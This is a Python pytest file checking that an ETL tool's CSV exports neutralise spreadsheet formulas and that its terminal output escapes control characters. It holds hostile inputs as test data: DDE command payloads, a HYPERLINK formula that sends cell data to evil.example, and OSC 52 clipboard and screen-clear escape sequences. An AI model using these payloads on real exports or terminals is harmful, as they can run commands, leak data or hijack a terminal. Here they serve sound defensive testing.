"""Text from the data stays text: no formula runs in a spreadsheet, no escape reaches a terminal.

CSV is for spreadsheets, so a cell a spreadsheet would read as a formula (starting with
= + - @, a tab or a carriage return) is written with a leading apostrophe unless raw output is
asked for; the terminal table shows control characters escaped; JSON keeps values exact.
"""

from __future__ import annotations

import csv
import io
import json

import polars as pl
import pytest
from click.testing import CliRunner

from etl.cli import cli
from etl.warehouse.sandbox import Limits, Sandbox
from tests.conftest import invoke_cxkpi

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
#: An NPS comment writing to the clipboard (OSC 52), then clearing the screen; C1 CSI; bidi.
ESCAPES = "\x1b]52;c;aGFja2Vk\x07 thanks \x1b[2J\x9b31m \u202eevil"


def literal(text: str) -> str:
    """A SQL expression for text, with control characters built by chr()."""
    return " || ".join(
        f"chr({ord(c)})"
        if ord(c) < 32 or 127 <= ord(c) < 160 or c == "\u202e"
        else "'" + c.replace("'", "''") + "'"
        for c in text
    )


def cells(query_values: list[str]) -> str:
    return " UNION ALL ".join(f"SELECT {literal(v)} AS comment, -5 AS n" for v in query_values)


@pytest.fixture(scope="module")
def sandbox(sample_db):
    with Sandbox(sample_db, Limits(timeout_seconds=10)) as box:
        yield box


def test_formula_cells_in_a_csv_download_are_neutralised(sandbox):
    data, rows, _ = sandbox.download(cells(FORMULAS + ["plain", "a=b"]), "csv")
    parsed = list(csv.reader(io.StringIO(data.decode(), newline="")))
    assert parsed[0] == ["comment", "n"]
    assert [r[0] for r in parsed[1:]] == ["'" + f for f in FORMULAS] + ["plain", "a=b"]
    assert {r[1] for r in parsed[1:]} == {"-5"}  # numbers stay numbers


def test_a_formula_in_a_column_name_is_neutralised_too(sandbox):
    data, _, _ = sandbox.download("SELECT 1 AS \"=cmd|' /C calc'!A0\"", "csv")
    assert next(csv.reader(io.StringIO(data.decode()))) == ["'=cmd|' /C calc'!A0"]


def test_lists_and_structs_in_csv_are_json_text_not_a_traceback(sandbox):
    data, rows, _ = sandbox.download("SELECT ['=1', 'b'] AS l, {'k': 2} AS s", "csv")
    assert rows == 1
    assert list(csv.reader(io.StringIO(data.decode()))) == [["l", "s"], ['["=1","b"]', '{"k":2}']]


def test_raw_csv_and_parquet_keep_values_exact(sandbox):
    query = cells(FORMULAS)
    data, _, _ = sandbox.download(query, "csv", raw=True)
    assert pl.read_csv(io.BytesIO(data))["comment"].to_list() == FORMULAS
    data, _, _ = sandbox.download(query, "parquet")
    assert pl.read_parquet(io.BytesIO(data))["comment"].to_list() == FORMULAS


def test_cxkpi_sql_csv_is_neutralised_unless_raw(sample_db):
    runner = CliRunner()
    query = cells(FORMULAS[:4])
    safe = runner.invoke(cli, ["--db", str(sample_db), "sql", "--format", "csv", query])
    assert safe.exit_code == 0, safe.output
    lines = list(csv.reader(io.StringIO(safe.output)))[1:]
    assert [r[0] for r in lines] == ["'" + f for f in FORMULAS[:4]]
    raw = runner.invoke(cli, ["--db", str(sample_db), "sql", "--format", "csv", "--raw", query])
    assert [r[0] for r in list(csv.reader(io.StringIO(raw.output)))[1:]] == FORMULAS[:4]


def test_cxkpi_sql_table_shows_control_characters_escaped(sample_db):
    query = f"SELECT {literal(ESCAPES)} AS comment"
    result = CliRunner().invoke(cli, ["--db", str(sample_db), "sql", query])
    assert result.exit_code == 0, result.output
    assert not any(ord(c) < 32 and c != "\n" or 127 <= ord(c) < 160 for c in result.output)
    assert "\u202e" not in result.output
    assert "\\x1b]52;c;aGFja2Vk\\x07" in result.output


def test_a_column_name_with_escapes_is_shown_escaped(sample_db):
    query = f'SELECT 1 AS "{chr(27)}[2Jname"'
    result = CliRunner().invoke(cli, ["--db", str(sample_db), "sql", query])
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output and "\\x1b[2Jname" in result.output


def test_a_refusal_quoting_the_data_prints_no_escape(sample_db):
    query = f"SELECT CAST({literal(chr(27) + '[2J' + chr(27) + ']52;c;eA==' + chr(7))} AS INTEGER)"
    result = invoke_cxkpi("--db", str(sample_db), "sql", query)
    assert result.returncode == 1
    assert "\x1b" not in result.stderr and "\x07" not in result.stderr
    assert result.stderr.strip().count("\n") == 0 and "\\x1b[2J" in result.stderr


def test_json_and_csv_keep_control_characters_exact(sample_db):
    query = f"SELECT {literal(ESCAPES)} AS comment"
    runner = CliRunner()
    out = runner.invoke(cli, ["--db", str(sample_db), "sql", "--format", "json", query]).output
    assert json.loads(out) == [{"comment": ESCAPES}]
    out = runner.invoke(cli, ["--db", str(sample_db), "sql", "--format", "csv", query]).output
    assert pl.read_csv(io.StringIO(out))["comment"].to_list() == [ESCAPES]
